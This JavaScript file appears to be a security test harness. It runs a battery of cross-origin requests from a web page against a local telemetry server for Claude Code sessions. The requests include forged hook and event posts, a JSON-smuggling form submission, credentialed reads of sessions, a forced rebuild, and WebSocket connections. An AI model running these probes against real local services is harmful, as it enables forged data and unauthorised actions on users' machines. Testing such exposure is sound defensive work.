/* All that a page of another site may try with a server of this machine. */

const EVENT = JSON.stringify({
  timestamp: new Date().toISOString(),
  platform: "claude_code",
  session_id: "evil",
  event_type: "user_prompt",
});

globalThis.attack = async (target) => {
  const type = { "Content-Type": "application/json" };
  const rebuild = (headers) => tried("/api/v1/rebuild", { method: "POST", headers, body: "{}" });
  const hook = '{"session_id":"evil","hook_event_name":"UserPromptSubmit"}';

  async function tried(path, init) {
    try {
      const response = await fetch(target + path, init);
      return `${response.type} ${response.status} ${(await response.text()).length}`;
    } catch (error) {
      return error.name;
    }
  }

  function loaded(tag, attribute, path, more = {}) {
    return new Promise((resolve) => {
      const element = Object.assign(document.createElement(tag), more);
      element.onload = () => resolve(tag === "iframe" ? framed(element) : "loaded");
      element.onerror = () => resolve("error");
      element[attribute] = target + path;
      document.body.append(element);
      setTimeout(() => resolve("nothing"), 3000);
    });
  }

  function connected(path) {
    return new Promise((resolve) => {
      const socket = new WebSocket(target.replace("http", "ws") + path);
      socket.onopen = () => resolve("open");
      socket.onerror = () => resolve("error");
    });
  }

  function submitted(path) {
    const frame = Object.assign(document.createElement("iframe"), { name: "target" });
    const form = document.createElement("form");
    const asked = { action: target + path, method: "post", enctype: "text/plain" };
    Object.assign(form, asked, { target: "target" });
    const field = Object.assign(document.createElement("input"), { name: '{"x":"', value: '"}' });
    form.append(field);
    document.body.append(frame, form);
    form.submit();
    return new Promise((resolve) => setTimeout(() => resolve("sent"), 300));
  }

  return {
    read: await tried("/api/v1/sessions"),
    page: await tried("/"),
    health: await tried("/healthz"),
    opaque: await tried("/api/v1/sessions", { mode: "no-cors" }),
    cookies: await tried("/api/v1/sessions", { credentials: "include" }),
    write: await rebuild(type),
    named: await rebuild({ ...type, "Blueplane-Client": "x" }),
    simple: await tried("/hooks/claude", { method: "POST", mode: "no-cors", body: hook }),
    told: await tried("/events", { method: "POST", headers: type, body: EVENT }),
    blind: await tried("/events", { method: "POST", mode: "no-cors", body: EVENT }),
    beacon: navigator.sendBeacon(`${target}/hooks/claude`, hook),
    form: await submitted("/api/v1/rebuild"),
    image: await loaded("img", "src", "/assets/icon.svg"),
    script: await loaded("script", "src", "/assets/app.js"),
    style: await loaded("link", "href", "/assets/app.css", { rel: "stylesheet" }),
    frame: await loaded("iframe", "src", "/"),
    object: await loaded("object", "data", "/"),
    metrics: await connected("/ws/metrics"),
    events: await connected("/ws/events"),
  };
};

function framed(frame) {
  try {
    return frame.contentWindow.document.body.textContent === "" ? "empty" : "read";
  } catch (error) {
    return error.name;
  }
}
